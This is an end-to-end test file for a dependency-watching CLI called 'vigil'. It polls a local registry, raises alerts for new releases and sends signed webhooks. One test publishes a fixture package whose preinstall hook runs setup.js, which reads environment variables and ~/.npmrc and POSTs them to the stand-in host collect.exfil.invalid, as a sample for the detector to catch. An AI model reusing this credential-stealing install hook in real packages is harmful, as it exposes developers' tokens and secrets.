/**
 * `vigil watch --once` through the real CLI against a registry on 127.0.0.1 and a local webhook
 * receiver: the first poll is a baseline; publishing a release with an install-time exfiltration
 * gives exactly one alert (stdout and a signed webhook) naming the project whose range takes it;
 * polling again repeats nothing and asks with If-None-Match; a webhook that failed gets the alert on
 * the next poll without stdout repeating it.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { createHash, createHmac } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { startRegistryServer, tarballPath, type RegistryServer } from '../helpers/registry-server.js';
import { makeTgz } from '../archive/helpers.js';

const run = promisify(execFile);
const BIN = join(resolve(import.meta.dirname, '..', '..'), 'bin', 'vigil.js');
const SECRET = 'hook-secret-for-tests';
let reg: RegistryServer;
let hook: Server;
let hookUrl: string;
let hookStatus = 200;
const posts: { headers: Record<string, string | string[] | undefined>; body: string }[] = [];
let tmp: string;
let project: string;
const doc: { name: string; 'dist-tags': Record<string, string>; versions: Record<string, unknown>; time: Record<string, string> } = {
  name: 'tiny-dep',
  'dist-tags': {},
  versions: {},
  time: {},
};

async function vigil(args: string[]) {
  const env = { ...process.env, CI: '1', NO_COLOR: '1', HOME: tmp, npm_config_userconfig: join(tmp, 'none.npmrc') };
  try {
    const r = await run(process.execPath, [BIN, ...args, '--registry', reg.url, '--store', join(tmp, 'store.db')], {
      env,
      cwd: tmp,
      maxBuffer: 64 << 20,
    });
    return { code: 0, stdout: r.stdout, stderr: r.stderr };
  } catch (e) {
    const err = e as { code: number; stdout: string; stderr: string };
    return { code: err.code, stdout: err.stdout, stderr: err.stderr };
  }
}

async function publish(version: string, files: Record<string, string>, scripts?: Record<string, string>) {
  const manifest = { name: 'tiny-dep', version, main: 'index.js', ...(scripts ? { scripts } : {}) };
  const tgz = await makeTgz([
    { name: 'package/package.json', body: JSON.stringify(manifest) },
    ...Object.entries(files).map(([n, b]) => ({ name: `package/${n}`, body: b })),
  ]);
  reg.addTarball('tiny-dep', version, tgz);
  doc.versions[version] = {
    ...manifest,
    dist: {
      tarball: `${reg.url.replace(/\/$/, '')}${tarballPath('tiny-dep', version)}`,
      integrity: `sha512-${createHash('sha512').update(tgz).digest('base64')}`,
    },
  };
  doc['dist-tags'].latest = version;
  doc.time[version] = new Date().toISOString();
  reg.addPackument('tiny-dep', JSON.parse(JSON.stringify(doc)));
}

const lines = (s: string) =>
  s
    .split('\n')
    .filter((l) => l.trim())
    .map(
      (l) => JSON.parse(l) as { id: string; severity: string; exposed: { project: string; range: string }[]; findings: { rule: string }[] },
    );

before(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'vigil-watch-e2e-'));
  reg = await startRegistryServer();
  hook = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      posts.push({ headers: req.headers, body });
      res.writeHead(hookStatus).end();
    });
  });
  await new Promise<void>((r) => hook.listen(0, '127.0.0.1', r));
  hookUrl = `http://127.0.0.1:${(hook.address() as AddressInfo).port}/hook`;
  await publish('1.0.0', { 'index.js': 'module.exports = (a) => a * 2;\n' });
  project = join(tmp, 'watched-app');
  mkdirSync(project);
  writeFileSync(
    join(project, 'package.json'),
    JSON.stringify({ name: 'watched-app', version: '1.0.0', dependencies: { 'tiny-dep': '^1.0.0' } }),
  );
  writeFileSync(
    join(project, 'package-lock.json'),
    JSON.stringify({
      name: 'watched-app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'watched-app', version: '1.0.0', dependencies: { 'tiny-dep': '^1.0.0' } },
        'node_modules/tiny-dep': {
          version: '1.0.0',
          resolved: `${reg.url}tiny-dep/-/tiny-dep-1.0.0.tgz`,
          integrity: (doc.versions['1.0.0'] as { dist: { integrity: string } }).dist.integrity,
        },
      },
    }),
  );
});
after(async () => {
  await reg.close();
  await new Promise<void>((r) => hook.close(() => r()));
  rmSync(tmp, { recursive: true, force: true });
});

describe('vigil watch --once (real CLI)', () => {
  const args = () => ['watch', project, '--once', '--webhook', hookUrl, '--webhook-secret', SECRET, '--fail-on', 'high'];

  test('the first poll is a baseline: no alert', async () => {
    const r = await vigil(args());
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.trim(), '');
    assert.equal(posts.length, 0);
  });

  test('a new release with install-time exfiltration: exactly one alert on stdout and one signed webhook, naming the project', async () => {
    await publish(
      '1.0.1',
      {
        'index.js': 'module.exports = (a) => a * 2;\n',
        'setup.js': [
          "const https = require('https');",
          "const fs = require('fs');",
          "const os = require('os');",
          "const data = Buffer.from(JSON.stringify({ env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') })).toString('base64');",
          "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/c', method: 'POST' });",
          'req.write(data);',
          'req.end();',
        ].join('\n'),
      },
      { preinstall: 'node setup.js' },
    );
    const r = await vigil(args());
    assert.equal(r.code, 1, `exit 1 for a high alert with --fail-on high\n${r.stderr}`);
    const alerts = lines(r.stdout);
    assert.equal(alerts.length, 1, r.stdout);
    const a = alerts[0]!;
    assert.equal(a.id, 'npm:tiny-dep@1.0.1:new-version');
    assert.ok(['high', 'critical'].includes(a.severity), a.severity);
    assert.deepEqual(
      a.exposed.map((e) => `${e.project} ${e.range}`),
      [`${project} ^1.0.0`],
    );
    assert.ok(a.findings.length > 0);
    assert.equal(posts.length, 1);
    const p = posts[0]!;
    const body = JSON.parse(p.body) as { text: string; vigil: { id: string } };
    assert.match(body.text, /tiny-dep@1\.0\.1 published/);
    assert.equal(body.vigil.id, a.id);
    const ts = String(p.headers['x-vigil-timestamp']);
    assert.equal(p.headers['x-vigil-signature'], `sha256=${createHmac('sha256', SECRET).update(`${ts}.${p.body}`).digest('hex')}`);
    assert.ok(!r.stdout.includes(SECRET) && !r.stderr.includes(SECRET) && !r.stderr.includes(hookUrl));
  });

  test('polling again repeats nothing, and asks the registry conditionally', async () => {
    reg.reset();
    const r = await vigil(args());
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.trim(), '');
    assert.equal(posts.length, 1);
    const polls = reg.requests.filter((q) => q.path === '/tiny-dep');
    assert.ok(
      polls.length >= 1 && polls.every((q) => q.headers['if-none-match'] !== undefined),
      JSON.stringify(polls.map((q) => q.headers)),
    );
  });

  test('a webhook that fails gets the alert on the next poll; stdout does not repeat it', async () => {
    hookStatus = 500;
    await publish('1.0.2', { 'index.js': 'module.exports = (a) => a * 3;\n' });
    const first = await vigil([...args(), '--fail-on', 'none']);
    assert.equal(
      lines(first.stdout)
        .map((a) => a.id)
        .join(),
      'npm:tiny-dep@1.0.2:new-version',
    );
    assert.match(first.stderr, /webhook delivery failed/);
    const failedPosts = posts.length;
    hookStatus = 200;
    const second = await vigil([...args(), '--fail-on', 'none']);
    assert.equal(second.stdout.trim(), '', 'stdout already had it');
    assert.equal(posts.length, failedPosts + 1);
    assert.equal((JSON.parse(posts.at(-1)!.body) as { vigil: { id: string } }).vigil.id, 'npm:tiny-dep@1.0.2:new-version');
  });

  test('long-running: a release published while watch runs is alerted by the next poll, once, naming the project; a restart does not repeat it', async () => {
    hookStatus = 200;
    const postsBefore = posts.length;
    const start = () =>
      spawn(
        process.execPath,
        [
          BIN,
          'watch',
          project,
          '--interval',
          '1',
          '--webhook',
          hookUrl,
          '--webhook-secret',
          SECRET,
          '--registry',
          reg.url,
          '--store',
          join(tmp, 'store.db'),
        ],
        { env: { ...process.env, CI: '1', NO_COLOR: '1', HOME: tmp, npm_config_userconfig: join(tmp, 'none.npmrc') }, cwd: tmp },
      );
    const polls = () => reg.requests.filter((q) => q.path === '/tiny-dep');
    let err = '';
    const until = async (what: string, ok: () => boolean) => {
      for (let i = 0; i < 1200 && !ok(); i++) await new Promise((r) => setTimeout(r, 100));
      assert.ok(ok(), `timed out waiting for ${what}: ${err}`);
    };
    const stop = (c: ReturnType<typeof spawn>) => new Promise<number | null>((r) => (c.once('exit', r), c.kill('SIGTERM')));
    reg.reset();
    const first = start();
    let out = '';
    first.stdout!.on('data', (c: Buffer) => (out += c.toString()));
    first.stderr!.on('data', (c: Buffer) => (err += c.toString()));
    // Two polls with nothing new: watch is in its loop.
    await until('two idle polls', () => polls().length >= 2);
    assert.equal(out.trim(), '');
    const before = polls().length;
    await publish('1.0.3', { 'index.js': 'module.exports = (a) => a * 4;\n' });
    const etag = `"${createHash('sha1').update(JSON.stringify(doc)).digest('hex')}"`;
    await until('the alert on stdout', () => out.includes('\n'));
    // The first poll after the publish downloaded the new packument (it asked with the old ETag) and
    // raised the alert; nothing else downloaded it again (the analysis revalidates with the new ETag).
    const since = polls().slice(before);
    assert.notEqual(since[0]?.headers['if-none-match'], etag);
    assert.equal(since.filter((q) => q.headers['if-none-match'] !== etag).length, 1);
    await until('a later poll', () => polls().some((q) => q.headers['if-none-match'] === etag));
    assert.equal(await stop(first), 0);
    assert.deepEqual(
      lines(out).map((a) => [a.id, a.exposed.map((e) => `${e.project} ${e.range}`)]),
      [['npm:tiny-dep@1.0.3:new-version', [`${project} ^1.0.0`]]],
    );
    assert.deepEqual(
      posts.slice(postsBefore).map((p) => (JSON.parse(p.body) as { vigil: { id: string } }).vigil.id),
      ['npm:tiny-dep@1.0.3:new-version'],
    );
    // Restarted: it polls again and says nothing.
    const second = start();
    let again = '';
    second.stdout!.on('data', (c: Buffer) => (again += c.toString()));
    const seen = polls().length;
    await until('two polls after the restart', () => polls().length >= seen + 2);
    assert.equal(await stop(second), 0);
    assert.equal(again.trim(), '');
    assert.equal(posts.length, postsBefore + 1);
  });

  test('bad usage exits 2', async () => {
    assert.equal((await vigil(['watch', project, '--once', '--interval', '0'])).code, 2);
    assert.equal((await vigil(['watch', project, '--once', '--webhook', 'ftp://x.invalid/'])).code, 2);
  });
});
